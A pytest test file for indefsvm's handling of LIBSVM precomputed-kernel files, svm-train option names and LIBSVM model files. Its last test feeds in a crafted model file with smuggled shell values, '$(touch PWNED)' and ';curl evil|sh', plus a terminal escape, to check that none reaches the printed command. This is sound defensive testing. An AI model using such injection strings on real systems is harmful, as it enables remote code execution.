"""What a LIBSVM user brings: LIBSVM's precomputed-kernel format (``svm-train -t 4``:
``label 0:ID 1:k(x, x_1) ...``) is read as a kernel with its labels, by
``datasets.load_libsvm_kernel`` and by the command line; svm-train's one-letter options and
its positional model and output files are named in this command line's words. Before, such
a kernel file was refused as "feature index 0 < 1 ... read with --zero-based", and that
advice trained an rbf SVM on the IDs and kernel rows as if they were features."""

import json

import numpy as np
import pytest

import indefsvm as isvm
from indefsvm.cli import main
from indefsvm.exceptions import DataFileError


def _kernel(n=40, seed=0):
    """A sigmoid kernel (indefinite) of two-class data, and its labels."""
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, 4))
    y = np.where(X[:, 0] + 0.5 * rng.normal(size=n) > 0, 1, -1)
    return isvm.kernel_matrix(X, kernel="sigmoid", gamma=0.1, coef0=-0.5), y


def _write(path, K, y, ids=None):
    """The file as LIBSVM's README writes it (repr: every digit, so the read is exact)."""
    ids = np.arange(1, len(y) + 1) if ids is None else ids
    with open(path, "w") as fh:
        for row, label, i in zip(K, y, ids, strict=True):
            fh.write(f"{label} 0:{i} " + " ".join(f"{j}:{v!r}" for j, v in
                                                  enumerate(row.tolist(), 1)) + "\n")
    return str(path)


def test_a_training_file_is_the_kernel_and_its_labels(tmp_path):
    K, y = _kernel()
    Kr, yr = isvm.datasets.load_libsvm_kernel(_write(tmp_path / "k.txt", K, y))
    np.testing.assert_array_equal(Kr, K)
    np.testing.assert_array_equal(yr, y)


def test_a_permuted_training_file_comes_back_in_id_order(tmp_path):
    # LIBSVM's README: "any permutation ... of the training files is also valid"; the ID
    # says which column is the row's own
    K, y = _kernel()
    p = np.random.default_rng(1).permutation(len(y))
    Kr, yr = isvm.datasets.load_libsvm_kernel(_write(tmp_path / "k.txt", K[p], y[p],
                                                     ids=p + 1))
    np.testing.assert_array_equal(Kr, K)
    np.testing.assert_array_equal(yr, y)


def test_rows_of_new_samples_are_read_in_the_files_order(tmp_path):
    K, y = _kernel(50)
    rows = K[40:, :40]
    path = _write(tmp_path / "t.txt", rows, y[40:], ids=np.zeros(10, dtype=int))  # 0:?
    Kt, yt = isvm.datasets.load_libsvm_kernel(path, n_train=40)
    np.testing.assert_array_equal(Kt, rows)
    np.testing.assert_array_equal(yt, y[40:])
    with pytest.raises(DataFileError, match="the model was trained on 30 samples"):
        isvm.datasets.load_libsvm_kernel(path, n_train=30)


@pytest.mark.parametrize("text, said", [
    ("1 0:1 1:2 2:-1\n-1 0:2 1:-1\n", r"line 2: has 1 kernel value where the widest line "
                                      r"has 2: .* zeros too"),
    ("1 0:1 1:2 2:-1\n-1 0:1 1:-1 2:2\n", "line 2: repeats ID 0:1"),
    ("1 0:1 1:2 2:-1\n-1 0:3 1:-1 2:2\n", "line 2: has ID 0:3: .* integers 1 ... 2"),
    ("1 0:1.5 1:2\n", "line 1: has ID 0:1.5"),
    ("1 0:1 1:2 2:-1 3:0\n-1 0:2 1:-1 2:2 3:0\n", "has 2 lines of 3 kernel values: .* "
                                                 "square"),
    ("1 0:1 1:2 2:-1\n-1 1:-1 2:2\n", "line 2: has no 0:ID pair first"),
])
def test_a_file_off_the_format_is_named_with_its_line(tmp_path, text, said):
    path = tmp_path / "bad.txt"
    path.write_text(text)
    with pytest.raises(DataFileError, match=said) as info:
        isvm.datasets.load_libsvm_kernel(str(path))
    assert "zero_based=True" in str(info.value)  # the other reading of a 0: index


def test_load_libsvm_names_the_kernel_format_where_a_line_starts_with_0(tmp_path):
    K, y = _kernel(6)
    with pytest.raises(DataFileError, match="precomputed-kernel format .* load_libsvm_kernel"):
        isvm.datasets.load_libsvm(_write(tmp_path / "k.txt", K, y))


def test_fit_and_predict_read_the_format_as_svm_train_and_svm_predict_do(tmp_path, capsys):
    K, y = _kernel(60)
    train = _write(tmp_path / "train.txt", K[:40, :40], y[:40])
    test = _write(tmp_path / "test.txt", K[40:, :40], y[40:], ids=np.zeros(20, dtype=int))
    model = str(tmp_path / "m.skops")
    assert main(["fit", train, "-C", "10", "--cv", "0", "--save", model, "--json"]) == 0
    out, err = capsys.readouterr()
    assert "LIBSVM's precomputed-kernel format" in err and "40 x 40 kernel" in err
    fitted = json.loads(out)
    # the model of the same kernel given as a matrix in Python
    ref = isvm.IndefiniteSVC(kernel="precomputed", C=10).fit(K[:40, :40], y[:40])
    assert fitted["problems"][0]["objective"] == pytest.approx(ref.objective_, rel=1e-12)
    preds = tmp_path / "p.txt"
    assert main(["predict", model, test, "--out", str(preds)]) == 0
    err = capsys.readouterr().err
    expected = ref.predict(K[40:, :40])
    np.testing.assert_array_equal(np.loadtxt(preds), expected)
    right = int(np.sum(expected == y[40:]))
    assert f"accuracy {100 * right / 20:.2f} % ({right}/20)" in err  # the file's labels
    labels = tmp_path / "y.txt"
    labels.write_text("\n".join(map(str, y[40:])) + "\n")
    assert main(["predict", model, test, "--labels", str(labels)]) == 2
    assert "--labels does not apply" in capsys.readouterr().err
    # a model of features does not take kernel rows
    feats = str(tmp_path / "f.skops")
    assert main(["fit", "--dataset", "heart", "-C", "1", "--gamma", "0.1", "--cv", "0",
                 "--save", feats, "--quiet"]) == 0
    capsys.readouterr()
    assert main(["predict", feats, test]) == 2
    assert "trained on features, not a kernel matrix" in capsys.readouterr().err


def test_check_and_compare_read_it_and_kernel_options_are_refused(tmp_path, capsys):
    K, y = _kernel()
    path = _write(tmp_path / "k.txt", K, y)
    assert main(["check", path, "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["n"] == 40
    assert report["lam_min"] == pytest.approx(np.linalg.eigvalsh(K)[0], rel=1e-9)
    assert main(["fit", path, "--gamma", "1"]) == 2
    assert "--gamma does not apply" in capsys.readouterr().err
    # --zero-based keeps its meaning: the file read as 0-based features
    assert main(["fit", path, "--zero-based", "-C", "1", "--gamma", "1", "--cv", "0",
                 "--json", "--quiet"]) == 0
    assert json.loads(capsys.readouterr().out)["n_features"] == 41


@pytest.mark.parametrize("argv, said", [
    (["fit", "--dataset", "heart", "-t", "3"], "svm-train's -t is --kernel here (--kernel "
                                               "sigmoid)"),
    (["fit", "--dataset", "heart", "-t2"], "(--kernel rbf)"),
    (["fit", "--dataset", "heart", "-t", "4"], "-t 4 (precomputed kernel) is a kernel FILE"),
    (["fit", "--dataset", "heart", "-g", "0.5"], "svm-train's -g is --gamma here (--gamma "
                                                 "0.5)"),
    (["fit", "--dataset", "heart", "-r", "-1"], "-r is --coef0 here (--coef0 -1)"),
    (["fit", "--dataset", "heart", "-c", "10"], "-c is -C here (-C 10)"),
    (["fit", "--dataset", "heart", "-v", "5"], "-v is --cv here (--cv 5)"),
    (["fit", "--dataset", "heart", "-w-1", "2"], "-w-1 2 is --class-weight=-1:2 here"),
    (["fit", "--dataset", "heart", "-c", "10", "-w1", "5", "-w-1", "0.5"],
     "-c 10 -w1 5 -w-1 0.5 is -C 10 --class-weight 1:5,-1:0.5 here"),
    (["fit", "--dataset", "heart", "-b", "1"], "-b (probability estimates) has no "
                                               "counterpart"),
    (["check", "--dataset", "heart", "-g", "0.5"], "-g is --gamma here"),
    (["predict", "m.skops", "d.txt", "-b", "1"], "svm-predict's -b 1 is --probability"),
    # a whole svm-train line: every option at once, in order
    (["fit", "--dataset", "heart", "-s", "0", "-t", "2", "-c", "10", "-g", "0.5", "-w1", "2",
      "-v", "5"], "svm-train's -t 2 -c 10 -g 0.5 -w1 2 -v 5 is --kernel rbf -C 10 --gamma 0.5 "
                  "--class-weight 1:2 --cv 5 here"),
    (["fit", "--dataset", "heart", "-t3", "-r", "-1", "-b", "1"],
     "-t3 -r -1 is --kernel sigmoid --coef0 -1 here; svm-train's -b (probability estimates) "
     "has no counterpart"),
])
def test_svm_trains_one_letter_options_are_named_in_this_command_lines_words(capsys, argv,
                                                                              said):
    assert main(argv) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and said in err[0]


def test_svm_train_and_svm_predict_positional_files_are_named(tmp_path, capsys):
    model = str(tmp_path / "m.skops")
    assert main(["fit", "--dataset", "heart", "-C", "1", "--gamma", "0.1", "--cv", "0",
                 "--save", model, "--quiet"]) == 0
    data = str(tmp_path / "h.libsvm")
    X, y = isvm.datasets.load_heart(return_X_y=True)
    with open(data, "w") as fh:
        for row, label in zip(X, y, strict=True):
            fh.write(f"{label:g} " + " ".join(f"{j}:{v!r}" for j, v in enumerate(row, 1))
                     + "\n")
    capsys.readouterr()
    # svm-train train model: the model's name is --save here
    assert main(["fit", data, str(tmp_path / "out.model"), "-C", "1"]) == 2
    assert "svm-train's second name is its model file: here --save" in capsys.readouterr().err
    # svm-predict test model output: the model first, the output --out
    assert main(["predict", data, model]) == 2
    err = capsys.readouterr().err
    assert "the model comes first" in err and f"indefsvm predict {model} {data}" in err
    assert main(["predict", model, data, str(tmp_path / "out.txt")]) == 2
    assert "svm-predict's third name is its output file: here --out" in capsys.readouterr().err
    # a word left over elsewhere keeps argparse's words alone
    assert main(["fit", data, "--scale", "1"]) == 2
    assert "unrecognized arguments: 1 (see" in capsys.readouterr().err


@pytest.mark.parametrize("argv, said", [
    (["fit", "--dataset", "heart", "--kernel", "precomputed"],
     "a precomputed kernel is given as FILE, not named"),
    (["fit", "--dataset", "heart", "--kernel", "gaussian"], "gaussian is --kernel rbf here"),
    (["fit", "--dataset", "heart", "--kernel", "tanh"], "tanh is --kernel sigmoid here"),
    (["fit", "--dataset", "heart", "--kernel", "RBF"], "did you mean --kernel rbf?"),
    (["fit", "--dataset", "heart", "--wss", "FIRST_ORDER"], "did you mean --wss first_order?"),
])
def test_a_choice_under_another_name_or_case_is_named(capsys, argv, said):
    assert main(argv) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "invalid choice" in err[0] and said in err[0]
    assert main(["fit", "--dataset", "heart", "--kernel", "foo"]) == 2
    assert capsys.readouterr().err.strip().endswith("'laplacian') (see 'indefsvm fit --help')")


def test_libsvms_multi_label_format_is_named(tmp_path):
    path = tmp_path / "ml.libsvm"
    path.write_text("1,3 1:0.5 2:0.1\n2 1:0.2\n")
    with pytest.raises(DataFileError, match=r"line 1: label '1,3' is not a number: a line of "
                                            "several labels is LIBSVM's multi-label format"):
        isvm.datasets.load_libsvm(str(path))
    path.write_text("a 1:0.5\n")
    with pytest.raises(DataFileError, match=r"label 'a' is not a number\.$"):
        isvm.datasets.load_libsvm(str(path))


def test_a_zero_based_features_file_is_not_taken_for_a_kernel(tmp_path, capsys):
    # scikit-learn's dump_svmlight_file writes 0-based indices, zeros left out, a real
    # value at 0: its lines begin '0:' as a kernel's do, and are features all the same
    from sklearn.datasets import dump_svmlight_file

    X, y = isvm.datasets.load_heart(return_X_y=True)
    path = str(tmp_path / "dumped.libsvm")
    dump_svmlight_file(X, y, path)
    assert main(["fit", path, "-C", "1", "--gamma", "0.1", "--cv", "0"]) == 2 - 1
    err = capsys.readouterr().err
    assert "feature index 0 < 1" in err and "--zero-based" in err
    assert "precomputed" not in err and "does not apply" not in err
    assert main(["fit", path, "-C", "1", "--gamma", "0.1", "--cv", "0", "--zero-based",
                 "--json", "--quiet"]) == 0
    assert json.loads(capsys.readouterr().out)["n_features"] == 13


def test_what_a_first_line_must_show_to_be_a_kernel_row(tmp_path):
    from indefsvm.datasets._libsvm import starts_with_serial

    def first(line):
        path = tmp_path / "f.txt"
        path.write_text(line + "\n")
        return {rows: starts_with_serial(str(path), rows=rows)
                for rows in ("training", "new", "any")}

    assert first("1 0:1 1:2.5 2:-1 3:0") == {"training": True, "new": True, "any": True}
    # svm-predict's 0:? (any number; LIBSVM does not read it)
    assert first("1 0:0 1:2.5 2:-1") == {"training": False, "new": True, "any": True}
    # scikit-learn's 0-based dump: a real value at 0, zeros left out
    assert first("1 0:0.708 1:1 3:-0.3") == {"training": False, "new": False, "any": True}
    assert first("1 0:3 1:1 3:-0.3") == {"training": False, "new": False, "any": True}
    assert first("# a comment\n1 1:0.5 2:1") == {"training": False, "new": False,
                                                 "any": False}


#: model files as LIBSVM's svm_save_model writes them (svm.cpp): the header, then 'SV'
_LIBSVM_MODELS = {
    "rbf": ("svm_type c_svc\nkernel_type rbf\ngamma 0.5\nnr_class 2\ntotal_sv 2\nrho 0.1\n"
            "label 1 -1\nnr_sv 1 1\nSV\n1 1:0.5 2:0.1 \n-1 1:-0.5 2:0.3 \n",
            "indefsvm fit TRAIN --kernel rbf --gamma 0.5 -C C --save MODEL.skops"),
    "sigmoid": ("svm_type c_svc\nkernel_type sigmoid\ngamma 0.01\ncoef0 -0.5\nnr_class 2\n"
                "total_sv 1\nrho 0\nlabel 1 -1\nnr_sv 1 0\nSV\n1 1:1 \n",
                "indefsvm fit TRAIN --kernel sigmoid --gamma 0.01 --coef0 -0.5 -C C"),
    "poly": ("svm_type nu_svc\nkernel_type polynomial\ndegree 2\ngamma 0.25\ncoef0 1\n"
             "nr_class 2\ntotal_sv 1\nrho 0\nlabel 1 -1\nnr_sv 1 0\nSV\n1 1:1 \n",
             "indefsvm fit TRAIN --svm-type nu-svc --kernel polynomial --gamma 0.25 --coef0 1 "
             "--degree 2 --nu NU"),
    "svr": ("svm_type epsilon_svr\nkernel_type linear\nnr_class 2\ntotal_sv 1\nrho 0\nSV\n"
            "1 1:1 \n",
            "indefsvm fit TRAIN --svm-type epsilon-svr --kernel linear -C C --epsilon P"),
}


@pytest.mark.parametrize("kind", list(_LIBSVM_MODELS))
def test_a_libsvm_model_file_is_named_with_the_command_that_trains_ours(tmp_path, capsys,
                                                                        kind):
    text, command = _LIBSVM_MODELS[kind]
    model = tmp_path / "heart.model"
    model.write_text(text)
    heart = isvm.datasets.data_path("heart_scale")
    for argv in (["predict", str(model), heart], ["report", str(model), heart]):
        assert main(argv) == 1
        err = capsys.readouterr().err
        assert err.startswith(f"indefsvm: error: {model}: is a model file of LIBSVM's "
                              "svm-train (svm_type ") and command in err
    with pytest.raises(DataFileError, match=r"svm-train's -[cn].* not kept in its model file"):
        isvm.load_model(str(model))
    # the command it prints runs, with the user's numbers and the training file
    argv = command.replace("indefsvm ", "").replace("TRAIN", heart).replace(
        "-C C", "-C 1").replace("NU", "0.5").replace("P", "0.1").replace(
        "--save MODEL.skops", "").split()
    assert main(argv + ["--cv", "0", "--quiet"]) == 0
    capsys.readouterr()


def test_another_text_file_given_as_a_model_keeps_its_message(tmp_path, capsys):
    model = tmp_path / "notes.txt"
    model.write_text("svm_type is what I used\n")
    assert main(["predict", str(model), isvm.datasets.data_path("heart_scale")]) == 1
    assert "is not a model saved by 'indefsvm fit --save'" in capsys.readouterr().err


def test_a_crafted_libsvm_model_prints_no_text_of_its_own_in_the_command(tmp_path, capsys):
    # gamma '$(touch PWNED)', coef0 ';curl evil|sh' and a terminal escape were printed as
    # they were inside the suggested 'indefsvm fit ...' command: only numbers are
    model = tmp_path / "crafted.model"
    model.write_text("svm_type c_svc\nkernel_type sigmoid\ngamma $(touch PWNED)\n"
                     "coef0 ;curl evil|sh\ndegree \x1b[31m3\nnr_class 2\ntotal_sv 1\n"
                     "rho 0\nSV\n1 1:0.5\n")
    assert main(["predict", str(model), isvm.datasets.data_path("heart_scale")]) == 1
    err = capsys.readouterr().err
    assert "svm-train (svm_type c_svc, kernel_type sigmoid)" in err
    assert "--kernel sigmoid -C C --save" in err
    for text in ("PWNED", "curl", "\x1b", "$("):
        assert text not in err
